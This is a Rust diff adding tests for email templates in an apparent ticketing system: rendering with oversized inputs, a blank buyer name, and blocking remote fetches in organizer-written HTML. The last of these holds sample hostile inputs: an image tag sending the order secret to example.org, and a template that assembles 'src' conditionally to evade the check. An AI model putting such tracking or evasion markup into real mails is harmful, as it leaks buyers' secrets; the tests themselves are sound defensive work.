@@ -31,6 +31,66 @@ fn the_built_in_words_are_in_order() {
 }
 
 #[test]
+fn the_built_in_words_fit_the_largest_order() {
+    let mut largest = Variables::sample();
+    for letter in ["&", "'", "\u{1F3AB}"] {
+        let name = letter.repeat(200);
+        let seat = letter.repeat(150);
+        largest.event.name.clone_from(&name);
+        largest.event.venue.clone_from(&name);
+        largest.buyer.name = letter.repeat(100);
+        let position = |number| PositionLine {
+            number,
+            name: name.clone(),
+            seat: seat.clone(),
+            price: "9999999999.99 EUR".to_owned(),
+        };
+        largest.positions = (1..=400).map(position).collect();
+        let ticket = |number| TicketEntry {
+            label: format!("{name}, {seat}"),
+            code: format!("BX1.{number:0>200}"),
+        };
+        largest.tickets = (1..=400).map(ticket).collect();
+        largest.reason = letter.repeat(500);
+        for kind in Kind::ALL {
+            let mail = Template::render_built_in(kind, &largest).expect("it can be rendered");
+            if kind == Kind::OrderConfirmation {
+                assert!(mail.text.contains("400. ") && mail.html.contains("400</code>"));
+            }
+        }
+    }
+}
+
+#[test]
+fn a_mail_in_an_organizers_words_fetches_nothing_when_it_is_opened() {
+    let html = |html: &str| Template { html: html.to_owned(), ..template("Hello") };
+    let spying = html("<img src=\"https://example.org/{{ order.secret }}\">");
+    let found = spying.faults();
+    assert_eq!(found[0].part, Part::Html);
+    assert!(found[0].what.contains("src; link to it instead"), "{}", found[0].what);
+    // Words are put together when the mail is, if not before.
+    let sly =
+        "<img {% if order.code == \"K7MPX2QB\" %}s{% else %}t{% endif %}rc=\"//example.org\">";
+    let sly = html(sly);
+    assert_eq!(sly.faults(), Vec::new());
+    let mut variables = Variables::sample();
+    variables.order.code = "K7MPX2QB".to_owned();
+    assert!(sly.render(&variables).is_err());
+    let linking = html("<a href=\"https://example.org/{{ order.code }}\">{{ event.name }}</a>");
+    assert_eq!(linking.faults(), Vec::new());
+}
+
+#[test]
+fn a_buyer_without_a_name_is_greeted_all_the_same() {
+    let mut variables = Variables::sample();
+    variables.buyer.name = String::new();
+    for kind in Kind::ALL {
+        let mail = Template::render_built_in(kind, &variables).expect("it can be rendered");
+        assert!(mail.text.starts_with("Hello,\n") && mail.html.starts_with("<p>Hello,</p>"));
+    }
+}
+
+#[test]
 fn the_confirmation_has_the_codes_and_the_secret_for_guests() {
     let template = Template::built_in(Kind::OrderConfirmation);
     let mail = template.render(&Variables::sample()).expect("it can be rendered");
